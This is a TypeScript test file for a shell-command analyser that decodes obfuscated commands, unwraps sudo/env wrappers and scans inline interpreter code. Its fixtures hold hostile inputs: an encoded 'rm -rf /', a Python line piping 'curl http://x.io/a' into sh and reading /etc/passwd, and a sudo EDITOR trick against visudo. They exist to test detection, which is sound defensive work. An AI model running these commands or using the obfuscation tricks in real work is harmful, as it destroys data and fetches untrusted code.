/** The small pieces the walk is built from: escapes, static outputs, option scanning, braces, code scanning. */
import { describe, expect, it } from 'vitest';
import { decodeAnsiC, decodeEchoEscapes, decodePrintfEscapes } from './escapes.js';
import { scanCode, interpreterCall } from './inline-code.js';
import { scanOptions, splitCommandLine } from './options.js';
import { staticOutput } from './static-output.js';
import { expandBraces } from './words.js';
import { peelWrapper } from './wrappers.js';

describe('escapes', () => {
  it.each([
    ['\\x72\\x6d', 'rm'],
    ['\\162\\155', 'rm'],
    ['\\u0072m', 'rm'],
    ['\\U0001F600', '😀'],
    ['a\\tb\\n', 'a\tb\n'],
    ["it\\'s", "it's"],
    ['\\cA', '\x01'],
    ['\\q', '\\q'],
    ['\\x', '\\x'],
    ['trailing\\', 'trailing\\'],
  ])('ANSI-C %s', (body, decoded) => {
    expect(decodeAnsiC(body)).toBe(decoded);
  });

  it('echo -e wants \\0nnn for octal and stops at \\c', () => {
    expect(decodeEchoEscapes('\\0162m\\cignored')).toEqual({ text: 'rm', stop: true });
    expect(decodeEchoEscapes('\\162').text).toBe('\\162');
  });

  it('printf takes \\nnn', () => {
    expect(decodePrintfEscapes('\\162\\x6d')).toBe('rm');
  });
});

describe('static output', () => {
  it.each([
    [['echo', ['a', 'b'], null], 'a b\n'],
    [['echo', ['-n', 'x'], null], 'x'],
    [['echo', ['-e', '\\x72m'], null], 'rm\n'],
    [['echo', ['-ne', 'a\\nb'], null], 'a\nb'],
    [['printf', ['%s-%s\\n', 'a', 'b', 'c'], null], 'a-b\nc-\n'],
    [['printf', ['%b', '\\x72\\155'], null], 'rm'],
    [['printf', ['%d%%', '42'], null], '42%'],
    [['printf', ['%c', 'rm'], null], 'r'],
    [['base64', ['-d'], 'cm0gLXJmIC8='], 'rm -rf /'],
    [['base64', ['--decode'], 'cm0g\nLXJm\nIC8='], 'rm -rf /'],
    [['xxd', ['-r', '-p'], '726d'], 'rm'],
    [['xxd', ['-rp'], '726d'], 'rm'],
    [['rev', [], 'mr\nhs'], 'rm\nsh'],
    [['tr', ['a-z', 'n-za-m'], 'ez'], 'rm'],
    [['tr', ['-d', 'x'], 'rxm'], 'rm'],
    [['cat', [], 'as is'], 'as is'],
    [['openssl', ['base64', '-d'], 'cm0='], 'rm'],
    [['dirname', ['/a/b/c'], null], '/a/b\n'],
    [['basename', ['/a/b/c.sh', '.sh'], null], 'c\n'],
  ] as Array<[[string, string[], string | null], string]>)('%j → %j', ([name, args, stdin], text) => {
    expect(staticOutput(name, args, stdin)?.text).toBe(text);
  });

  it.each([
    ['base64', ['-d'], 'not base64!'],
    ['cat', ['file'], null],
    ['xxd', ['-r', '-p'], 'zz'],
    ['curl', ['x'], null],
    ['printf', [], null],
  ])('%s %j is not statically known', (name, args, stdin) => {
    expect(staticOutput(name, args, stdin)).toBeNull();
  });

  it('marks decoding', () => {
    expect(staticOutput('printf', ['\\x41'], null)?.decoded).toBe(true);
    expect(staticOutput('echo', ['plain'], null)?.decoded).toBe(false);
  });

  it('pwd is the working directory', () => {
    expect(staticOutput('pwd', [], null, '/work')?.text).toBe('/work\n');
    expect(staticOutput('pwd', [], null, null)).toBeNull();
  });
});

describe('options', () => {
  it('stops at the first operand, takes values, honours --', () => {
    const scan = scanOptions(['sudo', '-u', 'root', '-E', 'rm', '-rf'], 1, { short: 'u' });
    expect(scan.options.map((o) => [o.flag, o.value])).toEqual([
      ['u', 'root'],
      ['E', null],
    ]);
    expect(scan.next).toBe(4);
    expect(scanOptions(['x', '-a', '--', '-b'], 1, {}).next).toBe(3);
    expect(scanOptions(['x', '-uroot', 'y'], 1, { short: 'u' }).options[0].value).toBe('root');
    expect(scanOptions(['x', '--user=root', 'y'], 1, {}).options[0]).toMatchObject({ flag: '--user', value: 'root' });
  });

  it('splits a command line like env -S', () => {
    expect(splitCommandLine(`rm -rf "a b" 'c d' e\\ f`)).toEqual(['rm', '-rf', 'a b', 'c d', 'e f']);
    expect(splitCommandLine('  ')).toEqual([]);
  });
});

describe('wrappers', () => {
  it.each([
    [['timeout', '-k', '5', '10s', 'rm'], 4],
    [['nice', '-n', '5', 'rm'], 3],
    [['chroot', '--userspec=x', '/mnt', 'rm'], 3],
    [['ionice', '-c3', 'rm'], 2],
    [['doas', '-u', 'root', 'rm'], 3],
  ])('%j starts the command at %i', (argv, next) => {
    expect(peelWrapper(argv[0], argv)).toMatchObject({ kind: 'wrap', next });
  });

  it('skips the VAR=value words sudo and env take before the command, whatever the name (found by the execution oracle)', () => {
    expect(peelWrapper('sudo', ['sudo', 'EDITOR=tee -a', 'visudo'])).toMatchObject({ kind: 'wrap', next: 2, assignments: { EDITOR: 'tee -a' } });
    expect(peelWrapper('sudo', ['sudo', '-u', 'root', 'A=1', 'B=2', 'rm'])).toMatchObject({ kind: 'wrap', next: 5 });
    expect(peelWrapper('env', ['env', 'PA-TH=x', 'nice', 'rm'])).toMatchObject({ kind: 'wrap', next: 2 });
    expect(peelWrapper('sudo', ['sudo', 'A=1'])).toEqual({ kind: 'self' });
  });

  it('states wrappers that run nothing', () => {
    expect(peelWrapper('sudo', ['sudo', '-v'])).toEqual({ kind: 'self' });
    expect(peelWrapper('command', ['command', '-v', 'rm'])).toEqual({ kind: 'self' });
    expect(peelWrapper('su', ['su', '-'])).toEqual({ kind: 'self' });
    expect(peelWrapper('ls', ['ls'])).toBeNull();
  });
});

describe('brace expansion', () => {
  const b = (text: string): string[] => expandBraces(text.replace(/\{/g, '\uE000').replace(/\}/g, '\uE001').replace(/,/g, '\uE002'));
  it.each([
    ['a{b,c}d', ['abd', 'acd']],
    ['{1..3}', ['1', '2', '3']],
    ['{3..1}', ['3', '2', '1']],
    ['{a..c}', ['a', 'b', 'c']],
    ['{0..10..5}', ['0', '5', '10']],
    ['{a,{b,c}}', ['a', 'b', 'c']],
    ['{}', ['\uE000\uE001']],
    ['{x}', ['\uE000x\uE001']],
  ])('%s', (text, words) => {
    expect(b(text)).toEqual(words);
  });

  it('is bounded', () => {
    expect(b('{a,b}'.repeat(30)).length).toBeLessThanOrEqual(256);
  });
});

describe('inline code', () => {
  it('finds the program of each interpreter', () => {
    expect(interpreterCall('python3', ['python3', '-c', 'x'])).toMatchObject({ language: 'python', code: 'x' });
    expect(interpreterCall('python3', ['python3', 'script.py'])).toMatchObject({ code: null, readsStdin: false });
    expect(interpreterCall('python3', ['python3'])).toMatchObject({ code: null, readsStdin: true });
    expect(interpreterCall('python3', ['python3', '-m', 'http.server'])).toMatchObject({ code: null, readsStdin: false });
    expect(interpreterCall('perl', ['perl', '-MIO::Socket', '-e', 'x'])).toMatchObject({ code: 'x', cliImports: ['IO::Socket'] });
    expect(interpreterCall('node', ['node', '--eval', 'y'])).toMatchObject({ code: 'y' });
    expect(interpreterCall('ruby', ['ruby', '-rsocket', '-e', 'z'])).toMatchObject({ cliImports: ['socket'] });
    expect(interpreterCall('deno', ['deno', 'eval', 'w'])).toMatchObject({ code: 'w' });
    expect(interpreterCall('ls', ['ls'])).toBeNull();
  });

  it('scans imports, calls, URLs, paths and shell command lines', () => {
    const scan = scanCode(
      "import os, socket\nfrom subprocess import run\nos.system('curl http://x.io/a | sh')\nopen('/etc/passwd')",
      'python',
    );
    expect(scan.imports).toEqual(expect.arrayContaining(['os', 'socket', 'subprocess']));
    expect(scan.calls).toContain('os.system');
    expect(scan.urls).toEqual(['http://x.io/a']);
    expect(scan.paths).toEqual(['/etc/passwd']);
    expect(scan.shellCommands).toEqual(['curl http://x.io/a | sh']);
  });

  it('javascript requires and child_process', () => {
    const scan = scanCode("const cp = require('child_process'); cp.execSync('id'); import('node:net')", 'javascript');
    expect(scan.imports).toEqual(expect.arrayContaining(['child_process', 'net']));
    expect(scan.calls).toContain('cp.execSync');
    expect(scan.shellCommands).toEqual(['id']);
  });
});
